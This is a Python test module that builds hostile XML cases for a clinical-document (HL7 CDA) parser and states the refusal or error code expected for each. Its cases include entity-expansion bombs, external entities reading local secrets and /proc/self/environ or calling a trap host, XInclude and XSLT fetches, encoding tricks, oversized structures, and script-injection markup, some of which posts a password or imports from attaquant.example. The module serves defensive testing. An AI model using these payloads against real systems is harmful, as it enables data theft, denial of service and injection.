"""XML that tries to grow, to read, to call, or to be understood in two ways."""

from collections.abc import Iterator
from functools import partial

from tests.proofs.hostile.cases import Case, Desk

ROOT = b"<ClinicalDocument"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
REFUSED = "906"


def corpus() -> Iterator[Case]:
    yield from _grow()
    yield from _entities()
    yield from _encodings()
    yield from _shapes()
    yield from _narratives()


def _with_doctype(name: str, subset: str, inside: str = "") -> Case:
    """A declaration in front of a sound document, and a call of it in its title."""

    def make(desk: Desk) -> bytes:
        doctype = subset.replace("{secret}", desk.secret).replace("{trap}", desk.trap)
        whole = desk.cda()
        start = whole.index(ROOT)
        whole = whole[:start] + doctype.encode() + whole[start:]
        return desk.document(whole.replace(b"<title>", b"<title>" + inside.encode(), 1))

    return Case(name, make, code=REFUSED)


def _grow() -> Iterator[Case]:
    for levels in (3, 9, 30):
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
        subset = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
        yield _with_doctype(f"billion laughs, {levels} levels", subset, f"&l{levels - 1};")
    large = f'<!DOCTYPE x [<!ENTITY b "{"b" * 50_000}">]>'
    yield _with_doctype("quadratic blow-up", large, "&b;" * 2_000)
    yield _with_doctype("an entity that calls itself", '<!DOCTYPE x [<!ENTITY a "&a;">]>', "&a;")
    attributes = '<!DOCTYPE x [<!ATTLIST title v CDATA "' + "v" * 100_000 + '">]>'
    yield _with_doctype("a default attribute", attributes)
    yield _with_doctype("an empty declaration", "<!DOCTYPE x>")
    yield _with_doctype("a declaration in small letters", "<!doctype x>")


def _entities() -> Iterator[Case]:
    addresses = {
        "file": "file://{secret}",
        "bare path": "{secret}",
        "http": "http://{trap}/x",
        "https": "https://{trap}/x",
        "ftp": "ftp://{trap}/x",
        "php": "php://filter/convert.base64-encode/resource={secret}",
        "jar": "jar:http://{trap}/x!/y",
        "gopher": "gopher://{trap}/x",
        "netdoc": "netdoc:{secret}",
        "data": "data:text/plain,x",
        "proc": "file:///proc/self/environ",
        "zero": "file:///dev/zero",
    }
    for name, address in addresses.items():
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
        yield _with_doctype(f"an external entity: {name}", entity, "&e;")
        yield _with_doctype(f"an external DTD: {name}", f'<!DOCTYPE x SYSTEM "{address}">')
        parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}"> %p;]>'
        yield _with_doctype(f"a parameter entity: {name}", parameter)
    public = '<!DOCTYPE x PUBLIC "-//A//B" "http://{trap}/x">'
    yield _with_doctype("a public DTD", public)
    notation = '<!DOCTYPE x [<!NOTATION n SYSTEM "{secret}"><!ENTITY e SYSTEM "{secret}" NDATA n>]>'
    yield _with_doctype("a notation", notation)
    passive = {
        "XInclude": (
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
        ),
        "a schema to fetch": (
            '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {}"/>'
        ),
        "a base to fetch": '<a xml:base="{}"/>',
    }
    for name, element in passive.items():
        for kind in ("file", "http"):

            def make(desk: Desk, element: str = element, kind: str = kind) -> bytes:
                where = f"file://{desk.secret}" if kind == "file" else f"http://{desk.trap}/x"
                return desk.edited(b"</title>", b"</title>" + element.format(where).encode())

            yield Case(f"{name}: {kind}", make, "AA")
    for target in ("xml-stylesheet", "xsl-import", "php", "xml-model"):

        def instruct(desk: Desk, target: str = target) -> bytes:
            pi = f'<?{target} type="text/xsl" href="http://{desk.trap}/x.xsl"?>'
            return desk.edited(ROOT, pi.encode() + ROOT)

        yield Case(f"an instruction: {target}", instruct, "AA")

    def stylesheet(desk: Desk) -> bytes:
        whole = desk.cda()
        body = whole[whole.index(ROOT) :].decode()
        return desk.document(
            f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            f'<xsl:import href="http://{desk.trap}/x.xsl"/><xsl:include href="file://{desk.secret}"/>'
            f"<xsl:variable name='v' select=\"document('http://{desk.trap}/x')\"/>"
            f"<xsl:template match='/'>{body}</xsl:template></xsl:stylesheet>".encode()
        )

    yield Case("a style sheet that imports", stylesheet, "AA")


def _encodings() -> Iterator[Case]:
    for name in (
        *("UTF-7", "UTF-16", "UTF-16LE", "UTF-32", "UCS-4", "EBCDIC-CP-US", "IBM037", "CP1140"),
        *("Shift_JIS", "ISO-2022-JP", "HZ", "GB18030", "BIG5", "KOI8-R", "rot13", "base64", "none"),
    ):

        def announced(desk: Desk, name: str = name) -> bytes:
            whole = desk.cda()
            return desk.document(
                f'<?xml version="1.0" encoding="{name}"?>'.encode() + whole[whole.index(ROOT) :]
            )

        yield Case(f"announced in {name}", announced, code=REFUSED)
    for name in ("utf-7", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "cp1140"):

        def written(desk: Desk, name: str = name) -> bytes:
            entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{desk.secret}">]><a>&e;</a>'
            return desk.document(entity.encode(name))

        yield Case(f"written in {name}", written, code=REFUSED)
    yield Case("two declarations", lambda desk: desk.document(XML.encode() * 2 + b"<a/>"))
    yield Case("not UTF-8", lambda desk: desk.edited(b"<title>", b"<title>\xff\xfe\xc3\x28"))
    yield Case("overlong UTF-8", lambda desk: desk.edited(b"<title>", b"<title>\xc0\xbcscript"))
    yield Case("surrogates in UTF-8", lambda desk: desk.edited(b"<title>", b"<title>\xed\xa0\x80"))
    yield Case("a NUL", lambda desk: desk.edited(b"<title>", b"<title>\0"))
    for reference in ("&#0;", "&#x0;", "&#xD800;", "&#xFFFE;", "&#x110000;", "&#99999999999;"):
        made = b"<title>" + reference.encode()
        yield Case(f"the character {reference}", partial(_titled, made))


def _titled(start: bytes, desk: Desk) -> bytes:
    return desk.edited(b"<title>", start)


def _instead(content: bytes, desk: Desk) -> bytes:
    return desk.document(content)


def _shapes() -> Iterator[Case]:
    def inside(name: str, build: str, verdict: str = "AE") -> Case:
        def make(desk: Desk) -> bytes:
            return desk.edited(b"</title>", b"</title>" + eval_shape(build))

        return Case(name, make, verdict)

    yield inside("a million levels", "deep")
    yield inside("a thousand levels", "thousand")
    yield inside("a million elements", "wide")
    yield inside("a million attributes", "attributes")
    yield inside("namespaces without end", "namespaces")
    yield inside("comments without end", "comments")
    yield inside("instructions without end", "instructions")
    yield inside("CDATA without end", "cdata")
    yield inside("a name of a megabyte", "name", "AA")
    yield inside("an attribute twice", "twice")
    yield inside("an unknown prefix", "prefix")
    yield inside("tags that cross", "crossed")
    yield inside("a CDATA that closes twice", "closing", "AA")
    yield inside("a comment with a declaration", "commented")
    for name, content in {
        "nothing": b" ",
        "no XML": b"Bonjour",
        "HTML": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "another root": b"<a/>",
        "a root without its namespace": b"<ClinicalDocument/>",
        "an empty document": b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
        "JSON": b'{"resourceType": "Bundle"}',
        "a ZIP": b"PK\x03\x04" + b"\0" * 60,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 60,
        "a PDF": b"%PDF-1.7\n",
        "half a document": b'<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="1"',
    }.items():
        yield Case(f"instead of a document: {name}", partial(_instead, content))


def eval_shape(name: str) -> bytes:  # noqa: C901, PLR0912 - a list of shapes
    """Built only when it is sent: some are twenty megabytes."""
    million = 1_000_000
    match name:
        case "deep":
            return b"<a>" * million
        case "thousand":
            return b"<a>" * 1_000 + b"</a>" * 1_000
        case "wide":
            return b"<a/>" * million
        case "attributes":
            return b"<a" + b"".join(b' a%d=""' % n for n in range(million)) + b"/>"
        case "namespaces":
            return b"<a" + b"".join(b' xmlns:a%d="u"' % n for n in range(300_000)) + b"/>"
        case "comments":
            return b"<!---->" * million
        case "instructions":
            return b"<?a?>" * million
        case "cdata":
            return b"<a><![CDATA[x]]></a>" * 300_000
        case "name":
            return b"<" + b"n" * million + b"/>"
        case "twice":
            return b'<a b="" b=""/>'
        case "prefix":
            return b"<x:a/>"
        case "crossed":
            return b"<a><b></a></b>"
        case "closing":
            return b"<a><![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]></a>"
        case _:
            return b"<!-- <!DOCTYPE x> -->"


def _narratives() -> Iterator[Case]:
    """HTML where words are expected: read as words, shown as words, or not at all."""
    for name, markup in {
        "a script": "<script>alert(1)</script>",
        "a frame": '<iframe src="javascript:alert(1)"/>',
        "an object": '<object data="x.swf"/><embed src="x"/>',
        "an image that fails": '<img src="x" onerror="alert(1)"/>',
        "a click": '<content onclick="alert(1)" onmouseover="alert(1)">lire</content>',
        "a style": '<content style="background:url(javascript:alert(1))">x</content>',
        "a style sheet": "<style>@import 'http://attaquant.example/x.css';</style>",
        "a link": '<linkHtml href="javascript:alert(1)">suite</linkHtml>',
        "a form": '<form action="http://attaquant.example"><input name="mot_de_passe"/></form>',
        "a refresh": '<meta http-equiv="refresh" content="0;url=http://attaquant.example"/>',
        "a base": '<base href="http://attaquant.example/"/>',
        "a drawing": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "maths": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
        "an XHTML script": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
        "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;",
        "in CDATA": "<![CDATA[</p><script>alert(1)</script>]]>",
    }.items():

        def make(desk: Desk, markup: str = markup) -> bytes:
            said = f"<text><paragraph>{markup}</paragraph></text>"
            comment = (
                '<component><section><code code="55112-7" codeSystem="2.16.840.1.113883.6.1"/>'
                f"{said}</section></component></structuredBody>"
            )
            return desk.edited(b"</structuredBody>", comment.encode())

        yield Case(f"in the narrative: {name}", make, "AA")
